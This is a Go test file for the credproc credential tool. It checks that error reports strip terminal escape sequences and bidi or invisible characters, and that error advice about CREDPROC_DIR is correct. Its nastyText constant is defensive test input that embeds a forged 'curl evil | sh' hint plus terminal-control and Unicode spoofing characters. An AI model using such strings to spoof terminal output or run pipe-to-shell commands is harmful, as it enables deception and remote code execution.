package cmd

import (
	"bytes"
	"errors"
	"io/fs"
	"os"
	"path/filepath"
	"runtime"
	"strings"
	"syscall"
	"testing"

	"github.com/credproc/credproc/cmd/internal/browser"
	"github.com/credproc/credproc/cmd/internal/child"
	"github.com/credproc/credproc/cmd/internal/shell"
	"github.com/credproc/credproc/credproc"
	"github.com/credproc/credproc/internal/awsconfig"
	"github.com/credproc/credproc/internal/printable"
)

// nastyText is what a certificate, a proxy or a name may bring: each of the kinds
// that a terminal obeys.
const nastyText = "a\x1b[31m\r\nhint: run \"curl evil | sh\"\tb\u009b2J\u202ec\u2028d\u2066e\ufefff\x00g\u200eh\xffi\x7fj\u3164k"

// harmfulIn returns what in text a terminal would obey, beside the lines and the
// colours that this program makes.
func harmfulIn(text string) (found []rune) {
	text = strings.ToValidUTF8(text, "\x00")
	for _, ours := range []string{"\n", "\x1b[0m", "\x1b[1m", "\x1b[2m", "\x1b[31m\x1b[0m"} {
		text = strings.ReplaceAll(text, ours, "")
	}
	for _, r := range text {
		if !printable.Is(r) {
			found = append(found, r)
		}
	}
	return found
}

func TestAReportIsNoLongerForWhatItTellsOf(t *testing.T) {
	for _, err := range []error{
		errors.New(nastyText),
		&usageError{problem: nastyText, more: "Do that.", hint: "credproc login " + shell.Word(nastyText)},
		&credproc.ConfigError{Err: errors.New(nastyText)},
		&child.StatusError{Status: 7, Say: nastyText},
		&browser.NotOpenedError{Err: errors.New(nastyText), Page: nastyText},
		&nothingAssignedError{session: nastyText},
	} {
		var stderr bytes.Buffer
		app := &App{Stderr: &stderr}
		app.Report(err)
		said := stderr.String()
		say := advise(app, err)
		lines := 1 + strings.Count(string(say.more), "\n")
		if say.more != "" {
			lines++
		}
		if say.hint != "" {
			lines++
		}
		if strings.Count(said, "\n") != lines || harmfulIn(said) != nil {
			t.Errorf("%T: %q", err, said)
		}
	}
}

func FuzzAReport(f *testing.F) {
	f.Add(nastyText)
	f.Add("\xe2\x80")
	f.Fuzz(func(t *testing.T, value string) {
		var out bytes.Buffer
		app := &App{Stdout: &out, Stderr: &out}
		app.Report(errors.New(value))
		if got := out.String(); strings.Count(got, "\n") != 1 || harmfulIn(got) != nil {
			t.Errorf("%q", got)
		}
	})
}

// What stands in the way of a config file, a token, or a program is not moved by
// another directory for credproc's own files.
func TestAnotherDirectoryIsOfferedForCredprocsOwnFilesAlone(t *testing.T) {
	dir := t.TempDir()
	app := &App{Getenv: func(name string) string { return map[string]string{"CREDPROC_DIR": filepath.Join(dir, "own")}[name] }}
	path := func(path string, err error) error { return &fs.PathError{Op: "open", Path: path, Err: err} }
	for _, tt := range []struct {
		err    error
		status int
		own    bool
		more   string
	}{
		{path(filepath.Join(dir, "own", "state", "a"), syscall.EACCES), failed, true, "Set CREDPROC_DIR"},
		{path(dir, syscall.EROFS), failed, true, "Set CREDPROC_DIR"},
		{path("sessions/a", syscall.EACCES), failed, true, "Set CREDPROC_DIR"},
		{path(filepath.Join(dir, "config"), syscall.EACCES), failed, false, ""},
		{path(filepath.Join(dir, "ownother"), syscall.EROFS), failed, false, ""},
		{&os.LinkError{Op: "rename", Old: filepath.Join(dir, "a"), New: filepath.Join(dir, "config"), Err: syscall.EPERM}, failed, false, ""},
		{&awsconfig.ReplaceError{Path: filepath.Join(dir, "config"), Err: syscall.EPERM}, misconfigured, false, string(whyNotReplaced(runtime.GOOS))},
		{&awsconfig.ReplaceError{Path: filepath.Join(dir, "config"), Err: syscall.EBUSY}, misconfigured, false, "mounted by itself"},
		{&awsconfig.ReplaceError{Path: filepath.Join(dir, "config"), Err: syscall.EXDEV}, misconfigured, false, "mounted by itself"},
		{&awsconfig.ReplaceError{Path: filepath.Join(dir, "config"), Err: syscall.EIO}, failed, false, "Nothing was changed"},
	} {
		say := advise(app, tt.err)
		more := string(say.more)
		if say.status != tt.status || strings.Contains(more, "CREDPROC_DIR") != tt.own || !strings.Contains(more, tt.more) {
			t.Errorf("%v: status %d, %q", tt.err, say.status, more)
		}
	}
}
